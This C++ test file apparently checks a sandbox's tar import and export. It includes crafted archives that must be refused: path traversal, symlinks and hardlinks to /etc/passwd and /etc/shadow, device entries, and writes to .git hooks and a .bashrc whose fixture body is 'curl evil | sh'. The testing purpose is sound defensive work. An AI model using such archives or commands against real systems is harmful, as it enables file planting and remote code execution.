// exportTree()/importTree() against real directories: round trips (through
// GNU tar too), archives GNU tar made, and a crafted archive for every
// refusal, each asserting the workspace is exactly as it was (a full listing
// with hashes before and after) and nothing appeared beside it.
#include <fcntl.h>
#include <sys/resource.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#include <atomic>
#include <csignal>
#include <cstring>
#include <optional>
#include <cstdlib>
#include <filesystem>
#include <chrono>
#include <thread>

#include "tests/support/read_file.h"
#include "tests/support/tar_builder.h"
#include "tests/support/workspace_fixture.h"

namespace stockade {
namespace {

using testing::codeOf;
using testing::messageOf;
using testing::StringSink;
using testing::TarBuilder;
using testing::TarHeader;
using testing::WorkspaceFixture;

// Hands out the bytes a few at a time, as a slow network body would.
class TrickleSource final : public ByteSource {
 public:
  TrickleSource(std::string_view bytes, std::size_t step) : bytes_(bytes), step_(step) {}
  WorkspaceResult<std::size_t> read(std::span<char> buf) override {
    std::size_t n = std::min({buf.size(), bytes_.size(), step_});
    std::memcpy(buf.data(), bytes_.data(), n);
    bytes_.remove_prefix(n);
    return n;
  }

 private:
  std::string_view bytes_;
  std::size_t step_;
};

int run(const std::string& command) { return std::system(command.c_str()); }

class WorkspaceTreeTest : public WorkspaceFixture {
 protected:
  std::string exportOf(Workspace& w, const std::string& path = "/workspace") {
    StringSink sink;
    auto e = w.exportTree(sink, path);
    EXPECT_FALSE(e) << (e ? e->message : "");
    return sink.out;
  }
  // Imports `tar` and expects a refusal with `reason` naming `entry`, the
  // workspace and everything beside it unchanged.
  void expectRefused(Workspace& w, const std::string& tar, const std::string& reason, const std::string& entry,
                     const std::string& dest = "/workspace") {
    const auto before = host();
    MemorySource src(tar);
    auto r = w.importTree(src, dest);
    ASSERT_TRUE(r) << "accepted: " << reason << " " << entry;
    EXPECT_EQ(r->codeName(), "invalid_archive") << r->message;
    EXPECT_EQ(r->reason, reason) << r->message;
    EXPECT_EQ(r->entry, entry) << r->message;
    EXPECT_EQ(host(), before) << r->message;
  }
  void importOk(Workspace& w, const std::string& tar, const std::string& dest = "/workspace") {
    MemorySource src(tar);
    auto r = w.importTree(src, dest);
    ASSERT_FALSE(r) << r->message;
  }
};

TEST_F(WorkspaceTreeTest, AnExportReadsBackIntoTheSameTree) {
  t_.file("ws/src/main.c", "int main(){}\n");
  t_.file("ws/src/empty", "");
  t_.file("ws/big.bin", std::string(3 << 20, 'z'));
  t_.file("ws/" + std::string(120, 'n') + "/" + std::string(130, 'm'), "long names");
  t_.file("ws/caf\xc3\xa9", "utf-8 name");
  t_.file("ws/raw\xff\xfe", "not utf-8");
  t_.symlink("src/main.c", "ws/link");
  t_.symlink(std::string(200, 'x'), "ws/long-link");
  ::link((ws_ + "/src/main.c").c_str(), (ws_ + "/hard").c_str());
  ::chmod((ws_ + "/src/main.c").c_str(), 0750);
  Workspace w = open();
  std::string tar = exportOf(w);
  EXPECT_EQ(tar.size() % 10240, 0u);

  // GNU tar reads it without a complaint and extracts the same tree.
  std::string gnu = t_.dir("gnu");
  {
    std::ofstream(t_ / "export.tar", std::ios::binary) << tar;
    ASSERT_EQ(run("tar -xf " + (t_ / "export.tar") + " -C " + gnu + " 2>" + (t_ / "tar.err")), 0);
    EXPECT_EQ(testing::readAll(::open((t_ / "tar.err").c_str(), O_RDONLY)), "");
  }
  EXPECT_EQ(testing::listTree(gnu), workspaceListing());

  // And it imports into an empty workspace as the same tree.
  std::string other = t_.dir("other");
  auto rules = std::make_shared<DerivedRules>(deriveRules(
      R"({"filesystem": {"denyRead": [], "allowRead": [], "allowWrite": [")" + other + R"("], "denyWrite": []}})"));
  auto o = std::get<Workspace>(Workspace::open({.hostPath = other, .rules = [rules] { return *rules; }}));
  MemorySource src(tar);
  auto r = o.importTree(src);
  ASSERT_FALSE(r) << r->codeName() << ": " << r->message;
  EXPECT_EQ(testing::listTree(other), workspaceListing());
  struct stat a {}, b {};
  ::stat((other + "/hard").c_str(), &a);
  ::stat((other + "/src/main.c").c_str(), &b);
  EXPECT_EQ(a.st_ino, b.st_ino);  // the hard link is one again
}

TEST_F(WorkspaceTreeTest, AnExportReportsSetIdAndStickyBitsAndAnImportStripsThem) {
  t_.file("ws/suid", "x");
  ::chmod((ws_ + "/suid").c_str(), 04755);
  t_.dir("ws/sticky");
  ::chmod((ws_ + "/sticky").c_str(), 01777);
  Workspace w = open();
  std::string tar = exportOf(w);
  {
    std::ofstream(t_ / "m.tar", std::ios::binary) << tar;
    ASSERT_EQ(run("tar -tvf " + (t_ / "m.tar") + " > " + (t_ / "list.txt")), 0);
  }
  std::string list = testing::readAll(::open((t_ / "list.txt").c_str(), O_RDONLY));
  EXPECT_NE(list.find("-rwsr-xr-x"), std::string::npos) << list;
  EXPECT_NE(list.find("drwxrwxrwt"), std::string::npos) << list;
  std::filesystem::remove_all(ws_ + "/suid");
  std::filesystem::remove_all(ws_ + "/sticky");
  importOk(w, tar);
  auto after = workspaceListing();
  EXPECT_EQ(after.at("suid").substr(0, 9), "file 0755");
  EXPECT_EQ(after.at("sticky"), "dir 0777");
}

TEST_F(WorkspaceTreeTest, ReadDeniedEntriesFifosAndSocketsAreLeftOutOfAnExportAndCounted) {
  t_.file("ws/.secret/key", "WS-SECRET");
  t_.file("ws/visible", "v");
  ::mkfifo((ws_ + "/fifo").c_str(), 0600);
  Workspace w = open();
  auto e = w.exportTree();
  ASSERT_EQ(codeOf(e), "ok");
  auto& tree = std::get<TreeExport>(e);
  std::string out, buf(4096, '\0');
  for (;;) {
    auto n = tree.read(buf);
    ASSERT_EQ(codeOf(n), "ok");
    if (std::get<std::size_t>(n) == 0) break;
    out.append(buf.data(), std::get<std::size_t>(n));
  }
  EXPECT_EQ(out.find("WS-SECRET"), std::string::npos);
  EXPECT_EQ(out.find(".secret"), std::string::npos);
  EXPECT_EQ(tree.summary().omitted, 2u);
  EXPECT_EQ(tree.summary().entries, 1u);
  EXPECT_EQ(tree.summary().bytes, out.size());
  EXPECT_EQ(codeOf(w.exportTree("/workspace/.secret")), "permission_denied");
}

TEST_F(WorkspaceTreeTest, ExportingAndImportingALargeFileUseBoundedMemory) {
  Workspace w = open();
  t_.file("ws/huge", "");
  ASSERT_EQ(::truncate((ws_ + "/huge").c_str(), 256 << 20), 0);  // 256 MiB, sparse
  struct rusage before {};
  ::getrusage(RUSAGE_SELF, &before);
  auto e = w.exportTree();
  ASSERT_EQ(codeOf(e), "ok");
  // Straight into a file: the archive is never held in memory.
  int fd = ::open((t_ / "huge.tar").c_str(), O_WRONLY | O_CREAT | O_TRUNC, 0600);
  std::string buf(1 << 18, '\0');
  std::uint64_t total = 0;
  for (;;) {
    auto n = std::get<TreeExport>(e).read(buf);
    ASSERT_EQ(codeOf(n), "ok");
    std::size_t got = std::get<std::size_t>(n);
    if (!got) break;
    ASSERT_EQ(::write(fd, buf.data(), got), static_cast<ssize_t>(got));
    total += got;
  }
  ::close(fd);
  EXPECT_GT(total, 256u << 20);
  std::filesystem::remove(ws_ + "/huge");
  class FileSource final : public ByteSource {
   public:
    explicit FileSource(int f) : fd(f) {}
    WorkspaceResult<std::size_t> read(std::span<char> b) override {
      return static_cast<std::size_t>(std::max<ssize_t>(0, ::read(fd, b.data(), b.size())));
    }
    int fd;
  } src(::open((t_ / "huge.tar").c_str(), O_RDONLY));
  auto r = w.importTree(src);
  ::close(src.fd);
  ASSERT_FALSE(r) << r->message;
  EXPECT_EQ(std::filesystem::file_size(ws_ + "/huge"), 256u << 20);
  struct rusage after {};
  ::getrusage(RUSAGE_SELF, &after);
  EXPECT_LT(after.ru_maxrss - before.ru_maxrss, 64 * 1024) << "KiB of peak RSS growth";
}

TEST_F(WorkspaceTreeTest, ArchivesGnuTarMakesImport) {
  std::string src = t_.dir("src");
  t_.file("src/a/b/c.txt", "c");
  t_.file("src/" + std::string(150, 'q') + "/" + std::string(120, 'r'), "deep");
  t_.symlink("a/b/c.txt", "src/link");
  t_.symlink("../b", "src/a/up");  // relative, inside
  Workspace w = open();
  for (const std::string format : {"gnu", "pax", "ustar"}) {
    SCOPED_TRACE(format);
    std::filesystem::remove_all(ws_);
    std::filesystem::create_directory(ws_);
    std::string tarPath = t_ / (format + ".tar");
    std::string longOk = format == "ustar" ? " --exclude='" + std::string(150, 'q') + "'" : "";
    ASSERT_EQ(run("tar --format=" + format + longOk + " -cf " + tarPath + " -C " + src + " . 2>/dev/null"), 0);
    std::ifstream in(tarPath, std::ios::binary);
    std::string tar((std::istreambuf_iterator<char>(in)), {});
    w = open();
    importOk(w, tar);
    auto expected = testing::listTree(src);
    if (format == "ustar")
      for (auto it = expected.begin(); it != expected.end();) it = it->first.starts_with("qqq") ? expected.erase(it) : ++it;
    EXPECT_EQ(workspaceListing(), expected);
  }
}

TEST_F(WorkspaceTreeTest, AnImportReplacesFilesMergesDirectoriesAndAppliesModesNotOwners) {
  t_.file("ws/keep/old.txt", "old");
  t_.file("ws/keep/replace.txt", "before");
  t_.symlink("keep/old.txt", "ws/was-link");
  Workspace w = open();
  std::string tar = TarBuilder()
                        .dir("keep", 0700)
                        .file("keep/replace.txt", "after", 04751)
                        .file("keep/new.txt", "new")
                        .file("was-link", "now a file")
                        .entry({.name = "fresh/dir/f", .size = 1, .mtime = 1234567890}, "f")
                        .end()
                        .take();
  importOk(w, tar);
  auto after = workspaceListing();
  EXPECT_EQ(after.at("keep/old.txt").substr(0, 12), "file 0644 3 ");
  EXPECT_EQ(after.at("keep/replace.txt").substr(0, 12), "file 0751 5 ");  // mode & 0777
  EXPECT_EQ(after.at("keep"), "dir 0700");
  EXPECT_EQ(after.at("was-link").substr(0, 4), "file");
  EXPECT_EQ(after.at("fresh"), "dir 0755");  // implied directories
  EXPECT_EQ(after.at("fresh/dir"), "dir 0755");
  struct stat st {};
  ASSERT_EQ(::stat((ws_ + "/fresh/dir/f").c_str(), &st), 0);
  EXPECT_EQ(st.st_mtime, 1234567890);
  EXPECT_EQ(st.st_uid, ::geteuid());  // never the archive's owner (0 in these headers)
  // Nothing was left beside the workspace or in it.
  for (const auto& [rel, _] : host()) EXPECT_EQ(rel.find(".stockade-import-"), std::string::npos) << rel;
}

TEST_F(WorkspaceTreeTest, AnImportIntoAMissingDirectoryCreatesItOnlyWhenTheArchivePasses) {
  Workspace w = open();
  expectRefused(w, TarBuilder().file("ok", "1").file("../bad", "2").end().take(), "dot_dot", "../bad",
                "/workspace/new/sub");
  EXPECT_FALSE(std::filesystem::exists(ws_ + "/new"));
  importOk(w, TarBuilder().file("ok", "1").end().take(), "/workspace/new/sub");
  EXPECT_EQ(workspaceListing().at("new/sub/ok").substr(0, 11), "file 0644 1");
}

TEST_F(WorkspaceTreeTest, AnArchiveArrivingAFewBytesAtATimeImports) {
  Workspace w = open();
  std::string tar = TarBuilder().file("a", std::string(100000, 'a')).dir("d").file("d/b", "b").end().take();
  TrickleSource src(tar, 7);
  auto r = w.importTree(src);
  ASSERT_FALSE(r) << r->message;
  EXPECT_EQ(std::filesystem::file_size(ws_ + "/a"), 100000u);
}

// A source whose bytes stop coming after `bytes`: the import waits in it.
class StallingSource final : public ByteSource {
 public:
  explicit StallingSource(std::string_view bytes) : bytes_(bytes) {}
  WorkspaceResult<std::size_t> read(std::span<char> buf) override {
    if (bytes_.empty()) ::pause();  // until killed
    std::size_t n = std::min(buf.size(), bytes_.size());
    std::memcpy(buf.data(), bytes_.data(), n);
    bytes_.remove_prefix(n);
    return n;
  }

 private:
  std::string_view bytes_;
};

std::vector<std::string> stagingNames(const std::string& dir) {
  std::vector<std::string> out;
  for (const auto& e : std::filesystem::directory_iterator(dir))
    if (e.path().filename().string().starts_with(".stockade-import-")) out.push_back(e.path().string());
  return out;
}

// A process killed (SIGKILL) in the middle of an import leaves its staging
// directory; the next open of the workspace (a restarted daemon's) removes
// it, and never one a live import holds.
TEST_F(WorkspaceTreeTest, WhatAnImportKilledMidwayLeftIsGoneAtTheNextOpenButALiveOnesIsKept) {
  const std::string tar = TarBuilder().file("a", "a").dir("d").file("d/b", std::string(1000, 'b')).end().take();
  const std::string beside = std::filesystem::path(ws_).parent_path().string();
  pid_t pid = ::fork();
  ASSERT_GE(pid, 0);
  if (pid == 0) {
    Workspace w = open();
    StallingSource src(std::string_view(tar).substr(0, 1536));  // the first entry and part of the next
    (void)w.importTree(src);
    ::_exit(0);
  }
  std::vector<std::string> left;
  for (int i = 0; i < 500 && left.empty(); ++i) {
    left = stagingNames(beside);
    std::this_thread::sleep_for(std::chrono::milliseconds(10));
  }
  ::kill(pid, SIGKILL);
  int status = 0;
  ::waitpid(pid, &status, 0);
  ASSERT_EQ(left.size(), 1u) << "the import never staged beside the workspace";

  Workspace again = open();
  EXPECT_FALSE(std::filesystem::exists(left[0])) << left[0] << " stayed after the next open";

  // A live import's staging, held while this open sweeps: its source waits
  // (part of the archive delivered) until the sweep is done.
  class GatedSource final : public ByteSource {
   public:
    GatedSource(std::string_view bytes, std::atomic<bool>& gate) : bytes_(bytes), gate_(gate) {}
    WorkspaceResult<std::size_t> read(std::span<char> buf) override {
      if (bytes_.size() < 1024)
        while (!gate_) std::this_thread::sleep_for(std::chrono::milliseconds(1));
      std::size_t n = std::min({buf.size(), bytes_.size(), std::size_t{512}});
      std::memcpy(buf.data(), bytes_.data(), n);
      bytes_.remove_prefix(n);
      return n;
    }

   private:
    std::string_view bytes_;
    std::atomic<bool>& gate_;
  };
  std::atomic<bool> gate{false};
  const std::string slow = TarBuilder().file("x", "x").file("y", "y").end().take();
  std::optional<WorkspaceError> slowResult;
  std::thread live([&] {
    Workspace w = open();
    GatedSource src(slow, gate);
    slowResult = w.importTree(src);
  });
  std::vector<std::string> staging;
  for (int i = 0; i < 500 && staging.empty(); ++i) {
    staging = stagingNames(beside);
    if (staging.empty()) std::this_thread::sleep_for(std::chrono::milliseconds(5));
  }
  Workspace another = open();
  const bool kept = !staging.empty() && std::filesystem::exists(staging[0]);
  gate = true;
  live.join();
  ASSERT_EQ(staging.size(), 1u) << "the live import never staged";
  EXPECT_TRUE(kept) << "the live import's staging was swept away";
  EXPECT_FALSE(slowResult) << slowResult->message;
  EXPECT_EQ(testing::readWholeFile(ws_ + "/y"), "y");
  EXPECT_TRUE(stagingNames(beside).empty());
  EXPECT_TRUE(stagingNames(ws_).empty());
}

struct Crafted {
  const char* name;
  std::string tar;
  const char* reason;
  std::string entry;
};

std::vector<Crafted> craftedArchives() {
  std::string ok = TarBuilder().file("fine.txt", "fine").bytes();  // a valid first entry
  auto withOk = [&](TarBuilder b) { return ok + b.bytes(); };
  std::string valid = TarBuilder().file("a", "a").file("b", "bb").end().take();
  std::string badSum = TarBuilder().file("a", "a").entry({.name = "b", .size = 2, .checksumDelta = 1}, "bb").end().take();
  std::string badFirstSum = TarBuilder().entry({.name = "a", .size = 1, .checksumDelta = 5}, "a").end().take();
  std::string garbage = valid + std::string("garbage");
  std::string afterEnd = TarBuilder().file("a", "a").raw(std::string(1024, '\0')).file("hidden", "h").end().take();
  return {
      {"absolute_name", withOk(TarBuilder().file("/etc/cron.d/x", "x").end()), "absolute_name", "/etc/cron.d/x"},
      {"dot_dot", withOk(TarBuilder().file("../outside/planted", "x").end()), "dot_dot", "../outside/planted"},
      {"dot_dot_in_the_middle", withOk(TarBuilder().file("a/../../x", "x").end()), "dot_dot", "a/../../x"},
      {"symlink_absolute", withOk(TarBuilder().symlink("l", "/etc/passwd").end()), "link_outside", "l"},
      {"symlink_climbing_out", withOk(TarBuilder().dir("d").symlink("d/l", "../../outside").end()), "link_outside", "d/l"},
      {"file_through_symlink_entry",
       withOk(TarBuilder().symlink("l", "sub").file("l/x", "x").end()), "through_symlink", "l/x"},
      {"file_through_symlink_entry_pointing_out_later",
       withOk(TarBuilder().symlink("l", ".").file("l/x", "x").end()), "through_symlink", "l/x"},
      {"hardlink_absolute", withOk(TarBuilder().hardlink("h", "/etc/shadow").end()), "hardlink_outside", "h"},
      {"hardlink_dot_dot", withOk(TarBuilder().hardlink("h", "../outside/secret").end()), "hardlink_outside", "h"},
      {"hardlink_to_workspace_file", withOk(TarBuilder().hardlink("h", "existing.txt").end()), "hardlink_outside", "h"},
      {"char_device", withOk(TarBuilder().entry({.name = "null", .type = '3', .devMajor = 1, .devMinor = 3}).end()),
       "special_file", "null"},
      {"block_device", withOk(TarBuilder().entry({.name = "sda", .type = '4', .devMajor = 8}).end()), "special_file", "sda"},
      {"fifo", withOk(TarBuilder().entry({.name = "pipe", .type = '6'}).end()), "special_file", "pipe"},
      {"entry_too_large", withOk(TarBuilder().file("big", std::string(2000, 'b')).end()), "entry_too_large", "big"},
      {"total_too_large",
       withOk(TarBuilder().file("a", std::string(900, 'a')).file("b", std::string(900, 'b')).file("c", std::string(900, 'c')).end()),
       "total_too_large", "c"},
      {"too_many_entries",
       withOk(TarBuilder().dir("1").dir("2").dir("3").dir("4").dir("5").dir("6").dir("7").dir("8").dir("9").dir("10").end()),
       "too_many_entries", "10"},
      {"bad_checksum", badSum, "malformed", ""},
      {"bad_checksum_first", badFirstSum, "malformed", ""},
      {"truncated_in_data", TarBuilder().file("a", std::string(900, 'a')).bytes().substr(0, 512 + 100), "malformed", "a"},
      {"truncated_at_an_entry_boundary", valid.substr(0, 1024), "malformed", ""},
      {"one_zero_block_only", valid.substr(0, 2048 + 512), "malformed", ""},
      {"data_after_the_end", garbage, "malformed", ""},
      {"entry_after_the_end", afterEnd, "malformed", ""},
      {"bad_pax_record_length", withOk(TarBuilder().pax("99 path=x\n").file("y", "y").end()), "malformed", "y"},
      {"bad_pax_record_syntax", withOk(TarBuilder().pax("9 pathxy\n").file("y", "y").end()), "malformed", "y"},
      {"empty_body", "", "malformed", ""},
      {"not_a_tar", std::string(4096, 'Z'), "malformed", ""},
      {"denied_write_name", withOk(TarBuilder().file(".env", "SECRET=1").end()), "permission_denied", ".env"},
      {"mandatory_deny_hooks", withOk(TarBuilder().file(".git/hooks/pre-commit", "#!/bin/sh\n").end()),
       "permission_denied", ".git/hooks/pre-commit"},
      {"mandatory_deny_config", withOk(TarBuilder().file(".git/config", "[core]\n").end()), "permission_denied", ".git/config"},
      {"mandatory_deny_rc", withOk(TarBuilder().file(".bashrc", "curl evil | sh\n").end()), "permission_denied", ".bashrc"},
      {"file_over_existing_directory", withOk(TarBuilder().file("a/new", "n").file("existing-dir", "x").end()),
       "conflicting_entry", "existing-dir"},
  };
}

class CraftedArchiveTest : public WorkspaceTreeTest, public ::testing::WithParamInterface<Crafted> {};

TEST_P(CraftedArchiveTest, IsRefusedNamingTheEntryAndTheWorkspaceIsUnchanged) {
  t_.file("ws/existing.txt", "keep me");
  t_.file("ws/existing-dir/inside", "keep me too");
  t_.file("ws/.bashrc", "# host's\n");
  t_.file("ws/.git/HEAD", "ref: refs/heads/main\n");
  t_.file("ws/.git/config", "[core]\n");
  t_.dir("ws/.git/hooks");
  Workspace w = open(testing::kWorkspacePolicy,
                     {.importLimits = {.maxEntries = 10, .maxEntryBytes = 1000, .maxTotalBytes = 2000}});
  expectRefused(w, GetParam().tar, GetParam().reason, GetParam().entry);
}

INSTANTIATE_TEST_SUITE_P(Refusals, CraftedArchiveTest, ::testing::ValuesIn(craftedArchives()),
                         [](const auto& p) { return std::string(p.param.name); });

TEST_F(WorkspaceTreeTest, TheValidNeighboursOfTheCraftedArchivesImport) {
  t_.file("ws/existing.txt", "keep me");
  Workspace w = open(testing::kWorkspacePolicy,
                     {.importLimits = {.maxEntries = 10, .maxEntryBytes = 1000, .maxTotalBytes = 2000}});
  importOk(w, TarBuilder()
                  .dir("d")
                  .symlink("d/l", "../existing.txt")  // climbs to the destination, not past it
                  .file("f", std::string(1000, 'f'))  // exactly the per-entry limit
                  .hardlink("h", "f")
                  .file(".env.example", "A=")
                  .file("git/hooks/not-a-git-dir", "x")
                  .end()
                  .take());
  auto after = workspaceListing();
  EXPECT_EQ(after.at("d/l"), "symlink -> ../existing.txt");
  EXPECT_EQ(after.at("h"), after.at("f"));
}

// A thread swaps the destination directory for a symlink out while imports
// run into it: nothing is ever written outside.
TEST_F(WorkspaceTreeTest, ASymlinkSwappedDuringImportsNeverLetsThemOut) {
  t_.dir("ws/dest");
  t_.symlink("../outside", "ws/destlink");
  Workspace w = open();
  const auto outsideBefore = testing::listTree(outside_);
  std::atomic<bool> stop{false};
  std::thread swapper([&] {
    while (!stop) {
      ::renameat2(AT_FDCWD, (ws_ + "/dest").c_str(), AT_FDCWD, (ws_ + "/destlink").c_str(), RENAME_EXCHANGE);
      std::this_thread::sleep_for(std::chrono::microseconds(20));  // windows where an import can complete
    }
  });
  std::string tar = TarBuilder().dir("sub").file("sub/planted", "PLANTED").file("planted2", "P").end().take();
  // At least 300 imports, and on until one has gone through (on a loaded
  // machine every one of 300 can meet the symlink), at most 5000.
  int ok = 0;
  for (int i = 0; i < 5000 && (i < 300 || ok == 0); ++i) {
    MemorySource src(tar);
    if (!w.importTree(src, "/workspace/dest")) ++ok;
  }
  stop = true;
  swapper.join();
  EXPECT_EQ(testing::listTree(outside_), outsideBefore);
  EXPECT_GT(ok, 0);
}

}  // namespace
}  // namespace stockade
